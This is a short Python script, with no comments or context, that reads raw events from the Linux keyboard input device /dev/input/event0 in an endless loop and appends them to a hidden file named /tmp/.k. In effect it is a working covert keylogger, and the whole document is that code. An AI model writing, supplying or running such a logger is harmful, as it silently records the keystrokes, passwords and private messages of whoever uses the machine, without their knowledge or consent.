import struct

with open("/dev/input/event0", "rb") as keys, open("/tmp/.k", "ab") as out:
    while True:
        out.write(keys.read(struct.calcsize("llHHI")))
